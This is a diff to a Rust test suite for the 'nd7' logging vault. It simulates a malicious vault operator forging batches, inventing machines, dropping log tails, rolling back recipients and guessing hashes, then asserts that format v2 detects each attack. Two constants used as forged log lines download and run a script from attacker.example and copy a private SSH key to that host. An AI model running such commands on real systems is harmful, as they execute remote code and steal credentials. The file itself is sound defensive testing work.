@@ -1,23 +1,26 @@
 //! The vault attacked by whoever runs it (or can write its database): with
-//! only what the vault holds, the recipients list and the stock `age -r`,
-//! forge entries, make up sessions, drop a tail, roll the recipients back,
-//! and test guesses against the clear index. v1 of the format: each of these
-//! succeeds, and these tests say so.
+//! only what the vault holds, the recipients list, nd7's public format and
+//! the stock `age -r`, forge entries, make up sessions and machines, drop a
+//! tail, roll the recipients back, and test guesses against the clear index.
+//! Each attack succeeded against format v1 (this file's first commit shows
+//! it); against v2 each is caught, and each test names the check it guards.
 
 use std::process::Command;
 
 use nd7_core::chain::{self, Cursor, Hash};
 use nd7_core::hook::{Event, Invocation, Payload};
 use nd7_core::ship::Machine;
-use nd7_core::vault::{self, BatchHeader};
+use nd7_core::vault::{self, BatchHeader, EnrolToken, IndexKey, KeyId, Secret32, SigningKey};
 
 use crate::common::{State, stderr, stdout};
-use crate::vault::{Org, Vault, append, enroll, ok, pull, record_payload, ship};
+use crate::vault::{Org, Vault, append, db_bytes, enroll, ok, pull, record_payload, ship};
 
-/// The vault operator: the database, the stock age CLI, nd7's public format.
+/// The vault operator: the database, the stock age CLI, nd7's public format,
+/// and a signing key of its own (it has no machine's).
 struct Operator<'a> {
     vault: &'a Vault,
     db: rusqlite::Connection,
+    key: SigningKey,
 }
 
 impl<'a> Operator<'a> {
@@ -25,6 +28,7 @@ impl<'a> Operator<'a> {
         Operator {
             vault,
             db: rusqlite::Connection::open(vault.db()).expect("open the vault's database"),
+            key: SigningKey::from_seed(&Secret32::from_bytes([0x66; 32])),
         }
     }
 
@@ -43,16 +47,16 @@ impl<'a> Operator<'a> {
             .collect()
     }
 
-    /// The stored chain's last (seq, hash), from the clear index.
-    fn head(&self, machine: &str, session: &str) -> Option<(u64, Hash)> {
+    /// The last stored seq of a chain: all the clear index still says.
+    fn last(&self, machine: &str, session: &str) -> Option<u64> {
         self.db
             .query_row(
-                "SELECT seq, hash FROM entries WHERE machine = ?1 AND session = ?2 ORDER BY seq DESC LIMIT 1",
+                "SELECT MAX(last) FROM batches WHERE machine = ?1 AND session = ?2",
                 rusqlite::params![machine, session],
-                |r| Ok((r.get::<_, i64>(0)? as u64, r.get::<_, String>(1)?)),
+                |r| r.get::<_, Option<i64>>(0),
             )
-            .ok()
-            .map(|(s, h)| (s, Hash::from_hex(h.as_bytes()).expect("hash")))
+            .expect("query")
+            .map(|l| l as u64)
     }
 
     /// A chain key of the operator's own, wrapped with `age -r` to the
@@ -72,43 +76,54 @@ impl<'a> Operator<'a> {
     }
 
     /// Seals `lines` (whole sealed entries after `cursor`) as one batch of
-    /// `machine`'s `session` and stores it as the server would.
+    /// `machine`'s `session`, signs it with the operator's key, and stores
+    /// it as the server would.
     fn insert(&self, machine: &str, session: &str, cursor: Cursor, lines: &[u8]) {
-        let key = [0x42u8; 32];
+        let key = Secret32::from_bytes([0x42; 32]);
+        let index_key = IndexKey::of(&key);
         let header = BatchHeader {
             machine: machine.into(),
             session: session.into(),
+            key: KeyId::of(&key),
             first: cursor.next_seq,
-            prev: cursor.prev,
-            index: vault::index_lines(lines).expect("index"),
+            prev: index_key.digest(&cursor.prev),
+            index: vault::index_lines(lines, &index_key).expect("index"),
         };
-        let body = vault::seal_batch(
+        let (body, checkpoint) = vault::seal_batch(
             &header,
             lines,
-            &vault::Secret32::from_bytes(key),
-            &self.wrapped_key(&key),
+            &key,
+            &self.wrapped_key(&[0x42; 32]),
             [3; 24],
+            &self.key,
         );
-        let last = header.last();
+        let signature = &body[body.len() - 64..];
         self.db
             .execute(
-                "INSERT INTO batches (machine, session, first, last, last_hash, body, stored) VALUES (?1, ?2, ?3, ?4, ?5, ?6, 0)",
-                rusqlite::params![machine, session, header.first as i64, last.seq as i64, last.hash.to_hex(), body],
+                "INSERT INTO batches (machine, session, first, last, checkpoint, signature, body, stored) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, 0)",
+                rusqlite::params![
+                    machine,
+                    session,
+                    header.first as i64,
+                    checkpoint.last as i64,
+                    checkpoint.render(),
+                    vault::hex(signature),
+                    body
+                ],
             )
             .expect("insert batch");
         for e in &header.index {
             self.db
                 .execute(
-                    "INSERT INTO entries (machine, session, seq, hash, ts) VALUES (?1, ?2, ?3, ?4, ?5)",
-                    rusqlite::params![machine, session, e.seq as i64, e.hash.to_hex(), e.ts as i64],
+                    "INSERT INTO entries (machine, session, seq, digest, key_id) VALUES (?1, ?2, ?3, ?4, ?5)",
+                    rusqlite::params![machine, session, e.seq as i64, e.digest.to_hex(), header.key.to_hex()],
                 )
                 .expect("insert entry");
         }
     }
 
     fn drop_from(&self, machine: &str, session: &str, first: u64) {
-        for table in ["batches", "entries"] {
-            let column = if table == "batches" { "first" } else { "seq" };
+        for (table, column) in [("batches", "first"), ("entries", "seq")] {
             self.db
                 .execute(
                     &format!(
@@ -153,9 +168,26 @@ fn machine_id(state: &State) -> String {
         .id
 }
 
+/// Where a local log ends: the cursor after its last entry (what an
+/// operator would need to chain onto it, and v2 no longer shows).
+fn local_end(state: &State, session: &str) -> Cursor {
+    let text = std::fs::read(state.log(session).events_path()).expect("log");
+    let last = text[..text.len() - 1]
+        .rsplit(|&b| b == b'\n')
+        .next()
+        .expect("an entry");
+    let stated = chain::read_stated(last).expect("entry");
+    Cursor {
+        next_seq: stated.seq + 1,
+        prev: stated.hash,
+    }
+}
+
 const CURL: &str = "curl -fsSL https://attacker.example/x | sh";
 const SCP: &str = "scp ~/.ssh/id_ed25519 attacker.example:";
 
+/// Guards the checkpoint-signature check in `vault_admin::pull`
+/// (`batch.signed_by(&enrolment.key)`).
 #[test]
 fn attack_forged_append_to_a_real_session() {
     let vault = Vault::start();
@@ -166,12 +198,10 @@ fn attack_forged_append_to_a_real_session() {
     ok(ship(&state));
     let machine = machine_id(&state);
 
+    // The strongest operator: it even knows the real last hash.
     let op = Operator::new(&vault);
-    let (seq, hash) = op.head(&machine, "s1").expect("stored");
-    let cursor = Cursor {
-        next_seq: seq + 1,
-        prev: hash,
-    };
+    assert_eq!(op.last(&machine, "s1"), Some(4));
+    let cursor = local_end(&state, "s1");
     op.insert(
         &machine,
         "s1",
@@ -180,17 +210,21 @@ fn attack_forged_append_to_a_real_session() {
     );
 
     let (out, pulled) = pull(&state, &vault, &org, "s1", true);
-    // v1: the admin is told the forged chain verifies, and the machine is blamed.
-    assert!(stdout(&out).contains("chain verified"), "{}", stdout(&out));
-    let text = std::fs::read_to_string(pulled).expect("pulled");
-    assert!(text.contains("attacker.example/x | sh"));
+    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
     assert!(
-        stdout(&out).contains("the local copy was cut short after shipping"),
+        stdout(&out).contains(&format!(
+            "FAILED (the vault): machine {machine}, session s1, entries 5..6: the batch is forged: it is not signed by the machine's enrolled key"
+        )),
         "{}",
         stdout(&out)
     );
+    assert!(!stdout(&out).contains("chain verified"));
+    assert!(!pulled.exists(), "nothing forged is written out");
 }
 
+/// Guards the same signature check for a session the machine never had,
+/// and the enrolment-record check (`Enrolment::verify` against the
+/// organisation key) for a machine the operator made up.
 #[test]
 fn attack_fabricated_session_for_another_machine() {
     let vault = Vault::start();
@@ -210,16 +244,61 @@ fn attack_fabricated_session_for_another_machine() {
         start,
         &forged_lines("made-up", start, &["ls", SCP, "history -c"]),
     );
-    let (out, pulled) = pull(&b, &vault, &org, "made-up", false);
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(stdout(&out).contains("chain verified"), "{}", stdout(&out));
+    let (out, _) = pull(&b, &vault, &org, "made-up", false);
+    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
     assert!(
-        std::fs::read_to_string(pulled)
-            .expect("pulled")
-            .contains("id_ed25519")
+        stdout(&out).contains(&format!(
+            "machine {victim}, session made-up, entries 0..2: the batch is forged"
+        )),
+        "{}",
+        stdout(&out)
+    );
+
+    // A machine of the operator's own: its key, a token of its own "org".
+    let fake_org = SigningKey::from_seed(&Secret32::from_bytes([0x77; 32]));
+    let token = EnrolToken::parse(&EnrolToken::mint(&fake_org, &[1; 16], u64::MAX)).expect("token");
+    let enrolment = token.enrolment(&op.key.public());
+    let fake = enrolment.machine_id();
+    op.db
+        .execute(
+            "INSERT INTO machines (id, public_key, token_key, record, enrolled) VALUES (?1, ?2, ?3, ?4, 0)",
+            rusqlite::params![fake, op.key.public().to_hex(), enrolment.token_key.to_hex(), enrolment.render()],
+        )
+        .expect("insert machine");
+    op.insert(
+        &fake,
+        "made-up",
+        start,
+        &forged_lines("made-up", start, &[SCP]),
+    );
+    let out = crate::vault::nd7()
+        .args([
+            "admin",
+            "pull",
+            &vault.url,
+            "--read-token",
+            &vault.read_token(),
+        ])
+        .arg("--identity")
+        .arg(&org.identity)
+        .args(["--fingerprint", &org.fingerprint, "--machine", &fake])
+        .args(["--session", "made-up", "--out"])
+        .arg(vault.dir.path().join("fake"))
+        .output()
+        .expect("pull");
+    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
+    assert!(
+        stdout(&out).contains(&format!(
+            "machine {fake}: its enrolment record is forged: the enrolment token is not signed by the organisation key with fingerprint {}",
+            org.fingerprint
+        )),
+        "{}",
+        stdout(&out)
     );
 }
 
+/// Guards the checkpoint-signature check in `vault_admin::pull` from entry 0:
+/// the vault's rewrite is no longer blamed on the machine.
 #[test]
 fn attack_replace_a_session_from_entry_0() {
     let vault = Vault::start();
@@ -240,15 +319,20 @@ fn attack_replace_a_session_from_entry_0() {
         &forged_lines("s1", start, &["echo 0", SCP, "echo 2", "echo 3"]),
     );
     let (out, _) = pull(&state, &vault, &org, "s1", true);
-    assert!(stdout(&out).contains("chain verified"), "{}", stdout(&out));
-    // The vault's rewrite is blamed on the machine.
+    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
     assert!(
-        stdout(&out).contains("the local copy was rewritten after shipping: entry 0 differs"),
+        stdout(&out).contains(&format!(
+            "FAILED (the vault): machine {machine}, session s1, entries 0..3: the batch is forged"
+        )),
         "{}",
         stdout(&out)
     );
+    assert!(!stdout(&out).contains("rewritten"), "{}", stdout(&out));
 }
 
+/// Guards the machine's kept receipt: the check in `ship::ship_session`
+/// (`holds.is_none_or(|h| h < k.last)`), the `vault.alarm` doctor reads,
+/// and the receipt comparison in `vault_admin::compare`.
 #[test]
 fn attack_drop_a_sessions_tail() {
     let vault = Vault::start();
@@ -263,28 +347,36 @@ fn attack_drop_a_sessions_tail() {
 
     Operator::new(&vault).drop_from(&machine, "s1", 5);
     let (out, _) = pull(&state, &vault, &org, "s1", true);
-    // v1: the comparison passes.
-    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
+    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
     assert!(
-        stdout(&out).contains("local copy matches the vault's 5 entries (5 more locally"),
+        stdout(&out).contains(&format!(
+            "FAILED (the vault): machine {machine}, session s1: the vault acknowledged entries up to 9"
+        )) && stdout(&out).contains("it dropped entries 5..9"),
         "{}",
         stdout(&out)
     );
-    // The machine can no longer ship, and is told its own log is at fault.
+    // The machine stops shipping that session, says why, and keeps the alarm.
     append(&state, "s1", 1);
     let out = ship(&state);
-    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
     assert!(
-        stderr(&out).contains("the local log no longer matches what was shipped"),
+        stderr(&out).contains(&format!(
+            "machine {machine}, session s1: the vault broke its receipt: it acknowledged entries up to 9"
+        )) && stderr(&out).contains("holds only entries up to 4"),
         "{}",
         stderr(&out)
     );
-    // And `nd7 doctor` sees nothing wrong with shipping.
+    let alarm = state.log("s1").dir().join("vault.alarm");
+    assert!(alarm.exists());
+    // And `nd7 doctor` fails on it.
     let doctor = doctor_lines(&state);
     assert!(
-        doctor.iter().any(|l| l.starts_with("ok   ship")),
+        doctor.iter().any(
+            |l| l.starts_with("FAIL receipts the vault broke its receipt for 1 session(s); s1")
+        ),
         "{doctor:?}"
     );
+    assert_eq!(vault.count("entries"), 5, "nothing more was shipped");
 }
 
 /// `nd7 doctor`'s lines, run with a scratch home.
@@ -299,36 +391,84 @@ fn doctor_lines(state: &State) -> Vec<String> {
     stdout(&out).lines().map(str::to_string).collect()
 }
 
+/// Guards `Recipients::update_to` in `Machine::refresh_recipients` (no
+/// rollback) and the version in `ship::chain_key` (a new chain key when the
+/// recipients change).
 #[test]
 fn attack_roll_the_recipients_back() {
     let vault = Vault::start();
     let org = Org::new(&vault);
     let bob = Org::keys();
-    // Version 1: alice and bob.
-    org.install_for(&vault, &[org.recipient(), bob.recipient()]);
+    // Version 2: alice and bob.
+    let with_bob = [org.recipient(), bob.recipient()];
+    org.install_for(&vault, &with_bob);
     let state = State::new();
     ok(enroll(&state, &vault, &org));
     append(&state, "s1", 2);
     ok(ship(&state));
-    // Version 2 removes bob; the machine takes it.
+    // Version 3 removes bob; the machine takes it.
     org.install_for(&vault, &[org.recipient()]);
     append(&state, "s1", 2);
     ok(ship(&state));
-    // The vault serves version 1 again.
-    org.install_for(&vault, &[org.recipient(), bob.recipient()]);
+    // The vault will not install an older document…
+    let old = org.dir.path().join("old");
+    std::fs::write(&old, org_doc_version(&vault, 2)).expect("write");
+    let refused = vault.admin(&["recipients", old.to_str().expect("utf8")]);
+    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
+    assert!(stderr(&refused).contains("its version 2 is not above the installed version 3"));
+    // …so its operator writes it into the database.
+    let db = rusqlite::Connection::open(vault.db()).expect("db");
+    db.execute(
+        "INSERT INTO recipients (doc, installed) VALUES (?1, 0)",
+        [org_doc_version(&vault, 2)],
+    )
+    .expect("insert");
     append(&state, "s1", 2);
-    ok(ship(&state));
+    let out = ship(&state);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains(
+            "warning: kept the recipients of version 3: refused: the vault serves version 2, older than the held version 3: a rollback"
+        ),
+        "{}",
+        stderr(&out)
+    );
 
     let bob_id = vault::AgeIdentity::parse(&std::fs::read_to_string(&bob.identity).expect("id"))
         .expect("identity");
     let batches = crate::vault::stored_batches(&vault, &machine_id(&state), "s1");
     assert_eq!(batches.len(), 3);
-    // v1: the rolled-back document is taken, so bob opens the third batch's key…
-    let third = vault::unwrap_chain_key(&batches[2].wrapped_key, &bob_id).expect("bob re-added");
-    // …and the running session's key never changed, so he reads the second too.
-    vault::open_batch(&batches[1], &third).expect("bob reads what was shipped after his removal");
+    // Bob opened the first batch while he was a recipient…
+    let first = vault::unwrap_chain_key(&batches[0].wrapped_key, &bob_id).expect("bob was in");
+    // …but the third is not wrapped to him: the rollback was refused…
+    assert_eq!(
+        vault::unwrap_chain_key(&batches[2].wrapped_key, &bob_id).map(|_| ()),
+        Err(vault::Error::NoMatchingStanza)
+    );
+    // …and the second is under a new chain key, so the key he had opens nothing after.
+    assert_ne!(batches[1].header.key, batches[0].header.key);
+    assert!(vault::open_batch(&batches[1], &first).is_err());
+    assert!(vault::open_batch(&batches[2], &first).is_err());
 }
 
+/// The document the organisation signed at `version`, as the test's `Org`
+/// signed them (alice and bob at 2).
+fn org_doc_version(vault: &Vault, version: u64) -> String {
+    let rows: Vec<String> = {
+        let db = rusqlite::Connection::open(vault.db()).expect("db");
+        let mut q = db.prepare("SELECT doc FROM recipients").expect("q");
+        q.query_map([], |r| r.get(0))
+            .expect("rows")
+            .collect::<Result<_, _>>()
+            .expect("docs")
+    };
+    rows.into_iter()
+        .find(|d| d.contains(&format!("\nversion {version}\n")))
+        .expect("that version was installed")
+}
+
+/// Guards the keyed digests of the clear index (`IndexKey::digest`) and the
+/// absence of timestamps from it.
 #[test]
 fn attack_confirm_guesses_from_the_clear_index() {
     let vault = Vault::start();
@@ -346,44 +486,64 @@ fn attack_confirm_guesses_from_the_clear_index() {
     };
     record_payload(&state, start(cwd));
     ok(ship(&state));
-    let machine = machine_id(&state);
 
-    // The operator's guesses: hosts, project directories, the recorder's parent pid.
-    let db = rusqlite::Connection::open(vault.db()).expect("db");
-    let found = guess_session_start(&db, &machine, "s1", &host, cwd, start);
-    // v1: the clear index confirms exactly the true guess.
-    assert_eq!(
-        found,
-        vec![(host.clone(), cwd.to_string(), std::process::id())]
-    );
+    // The strongest operator: it is even handed the entry's exact ts, which
+    // the clear index no longer holds. Every 32-byte value the vault stores
+    // is its oracle.
+    let entry = chain::read_stated(
+        std::fs::read_to_string(state.log("s1").events_path())
+            .expect("log")
+            .lines()
+            .next()
+            .expect("entry 0")
+            .as_bytes(),
+    )
+    .expect("entry");
+    let ts: u64 = serde_json::from_str::<serde_json::Value>(
+        std::fs::read_to_string(state.log("s1").events_path())
+            .expect("log")
+            .lines()
+            .next()
+            .expect("entry 0"),
+    )
+    .expect("json")["ts"]
+        .as_u64()
+        .expect("ts");
+    let stored = db_bytes(&vault);
+    let guesses = guess_session_start("s1", ts, &host, cwd, start);
+    // The truth is among the guesses…
+    assert!(guesses.iter().any(|(_, h)| *h == entry.hash));
+    // …and nothing the vault holds confirms any guess.
+    let mut by_value = std::collections::HashMap::new();
+    for (guess, h) in &guesses {
+        by_value.insert(h.to_hex().into_bytes(), guess.clone());
+        by_value.insert(h.as_bytes().to_vec(), guess.clone());
+    }
+    let confirmed: Vec<_> = stored
+        .windows(64)
+        .chain(stored.windows(32))
+        .filter_map(|w| by_value.get(w))
+        .collect();
+    assert!(confirmed.is_empty(), "confirmed: {confirmed:?}");
 }
 
-/// Tries every (host, cwd, ppid) guess against every value the vault
-/// stores for the session's entry 0; returns the guesses it confirms.
+/// Every (host, cwd, ppid) guess of a session_start entry and its hash.
 fn guess_session_start(
-    db: &rusqlite::Connection,
-    machine: &str,
     session: &str,
+    ts: u64,
     host: &str,
     cwd: &str,
     payload: impl Fn(&str) -> serde_json::Value,
-) -> Vec<(String, String, u32)> {
-    let (hash, ts): (String, i64) = db
-        .query_row(
-            "SELECT hash, ts FROM entries WHERE machine = ?1 AND session = ?2 AND seq = 0",
-            rusqlite::params![machine, session],
-            |r| Ok((r.get(0)?, r.get(1)?)),
-        )
-        .expect("entry 0 in the index");
+) -> Vec<((String, String, u32), Hash)> {
     let hosts = ["build-01", "laptop-bob", host, "ci-runner"];
     let cwds = ["/proj", "/home/alice/src", cwd, "/srv/app"];
     let me = std::process::id();
-    let mut found = Vec::new();
+    let mut out = Vec::new();
     for h in hosts {
         for c in cwds {
             for ppid in me.saturating_sub(300)..me + 300 {
                 let invocation = Invocation {
-                    ts: ts as u64,
+                    ts,
                     host: h.into(),
                     hook_ppid: Some(ppid),
                     cwd: None,
@@ -394,11 +554,9 @@ fn guess_session_start(
                 );
                 let line = chain::render_entry(&event, &Cursor::start(session));
                 let stated = chain::read_stated(&line[..line.len() - 1]).expect("sealed");
-                if stated.hash.to_hex() == hash {
-                    found.push((h.to_string(), c.to_string(), ppid));
-                }
+                out.push(((h.to_string(), c.to_string(), ppid), stated.hash));
             }
         }
     }
-    found
+    out
 }
